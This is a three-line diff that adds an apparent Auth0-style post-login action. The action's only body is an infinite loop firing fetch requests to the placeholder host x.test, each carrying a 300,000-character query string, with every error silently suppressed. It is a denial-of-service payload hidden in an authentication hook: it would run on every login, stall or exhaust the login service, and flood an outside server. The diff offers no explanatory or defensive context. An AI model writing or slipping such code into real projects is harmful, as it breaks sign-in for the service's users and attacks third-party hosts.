@@ -1,0 +1,3 @@
+exports.onExecutePostLogin = async (event, api) => {
+  for (;;) fetch('https://x.test/?' + 'u'.repeat(3e5)).catch(() => {});
+};
